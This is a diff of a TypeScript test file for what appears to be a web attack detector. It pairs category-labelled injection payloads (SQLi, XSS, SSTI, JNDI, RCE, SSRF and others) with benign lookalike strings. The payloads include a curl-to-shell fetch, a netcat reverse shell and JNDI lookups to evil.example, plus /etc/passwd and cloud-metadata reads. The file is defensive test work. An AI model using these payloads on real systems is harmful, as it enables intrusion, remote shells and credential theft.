@@ -6,16 +6,16 @@ import { everywhere, inspect, type Req } from './helpers.js';
 
 const ATTACKS: Record<string, string[]> = {
   sqli: ["' or 1=1--", "admin'--", '1 UNION SELECT username, password FROM users', "1'; DROP TABLE users; --", "' AND SLEEP(5)#", '1) or (1=1', "x' || (select pg_sleep(10)) || '", '-1 union all select null,null,@@version--', "'; exec master..xp_cmdshell 'dir'--", "1 AND extractvalue(1, concat(0x7e, version()))", "' OR 'a'='a", '1;waitfor delay \'0:0:5\'--'],
-  xss: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(document.domain)>', 'javascript:alert(1)', '<a href="jav&#x09;ascript:alert(1)">x</a>', "';alert(String.fromCharCode(88,83,83))//", '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '" autofocus onfocus="alert(1)'],
+  xss: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(document.domain)>', 'javascript:alert(1)', '<a href="jav&#x09;ascript:alert(1)">x</a>', "';alert(String.fromCharCode(88,83,83))//", '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '" autofocus onfocus="alert(1)', '${alert(1)}'],
   lfi: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/proc/self/environ'],
   rce: [';cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x.sh | sh)', '127.0.0.1; nc -e /bin/sh 10.0.0.1 4444', '&& ping -c 10 127.0.0.1', '() { :; }; /bin/bash -c "id"', 'cmd.exe /c dir', ';c\'\'at /et\'\'c/pas\'\'swd', 'powershell -enc SQBFAFgA'],
   ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'http://[::ffff:127.0.0.1]/', 'gopher://127.0.0.1:6379/_INFO', 'file:///etc/passwd', 'http://localhost/server-status', 'http://\\g\\o\\o\\g\\l\\e.\\c\\o\\m/'],
   xxe: ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>'],
-  ssti: ['{{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '${7*7}', '<%= system("id") %>', '#{7*7}', '{{config.items()}}', '${T(java.lang.Runtime).getRuntime().exec("id")}', '{% if True %}49{% endif %}', '<% if 1==1 %>x<% end %>', '{{#if true}}a{{/if}}'],
+  ssti: ['{{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '${7*7}', '<%= system("id") %>', '#{7*7}', '{{config.items()}}', '${T(java.lang.Runtime).getRuntime().exec("id")}', '{% if True %}49{% endif %}', '<% if 1==1 %>x<% end %>', '{{#if true}}a{{/if}}', "{{7*'7'}}", '@(1+2)', "{{['id']|filter('system')}}"],
   jndi: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://evil.example/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}'],
   php: ['<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index.php', 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'eval(base64_decode("cGhwaW5mbygpOw=="))', 'expect://id'],
   java: ['java.lang.Runtime.getRuntime().exec("id")', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==', 'new ProcessBuilder("sh").start()', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
-  node: ['require("child_process").exec("id")', '_$$ND_FUNC$$_function(){require("child_process").exec("ls")}()', 'this.constructor.constructor("return process")().mainModule', 'process.mainModule.require("fs")', 'console.info(1)', 'console["log"](1)', 'console.info.call(this,1)', 'c\\u006fnsole.info(1)'],
+  node: ['require("child_process").exec("id")', '_$$ND_FUNC$$_function(){require("child_process").exec("ls")}()', 'this.constructor.constructor("return process")().mainModule', 'process.mainModule.require("fs")', 'console.info(1)', 'console["log"](1)', 'console.info.call(this,1)', 'c\\u006fnsole.info(1)', "require('fs').readdirSync('.')"],
   ldapi: ['*)(uid=*))(|(uid=*', 'admin)(|(password=*))', '*)(objectClass=*'],
   crlf: ['foo\r\nSet-Cookie: session=attacker', 'x%0d%0aLocation:%20http://evil.example'],
   rfi: ['http://203.0.113.66/shell.txt?', 'https://evil.example/shell.php?', 'http://good.example/:x@evil.example/', 'http://a@b@evil.example/', 'http://good.example\\@evil.example/', 'http://good.example#@evil.example'],
@@ -31,7 +31,7 @@ const BENIGN: string[] = [
   'console.log(x) prints undefined', 'Console (retro edition)', 'process (step 2)', '{% if user.is_authenticated %}Hi {{ user.name }}{% endif %}',
   `<p>Hello {{ name }}</p>${'{% if false %}<p>old banner, switched off</p>{% endif %}'}<p>${'Thanks for your order. '.repeat(5)}</p>`,
   'C:\\Users\\grace\\AppData', 'https://mastodon.social/@user@other.example', 'https://www.threads.net/@john.doe', 'https://maps.example.com/@51.5,-0.1,12z',
-  'https://user:secret@files.example.com/x', 'Set the cookie; expires= is optional', 'document.cookie is empty; path=/ did not help', '\\\\fileserver\\share\\report.xlsx',
+  'https://user:secret@files.example.com/x', 'Call me @(555) 123-4567', '@(Model.Name)', "{{ items|map(attribute='name')|join(', ') }}", '${formatPrice(total)}', 'Set the cookie; expires= is optional', 'document.cookie is empty; path=/ did not help', '\\\\fileserver\\share\\report.xlsx',
 ];
 
 for (const [category, payloads] of Object.entries(ATTACKS)) {
